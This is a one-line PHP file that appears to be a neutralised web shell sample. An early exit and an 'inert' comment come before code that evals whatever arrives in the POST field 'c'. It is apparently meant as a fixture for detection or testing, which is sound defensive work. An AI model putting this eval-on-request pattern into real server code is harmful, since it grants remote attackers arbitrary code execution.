<?php exit; /* inert */ $x=filter_input(INPUT_POST,"c"); eval($x);
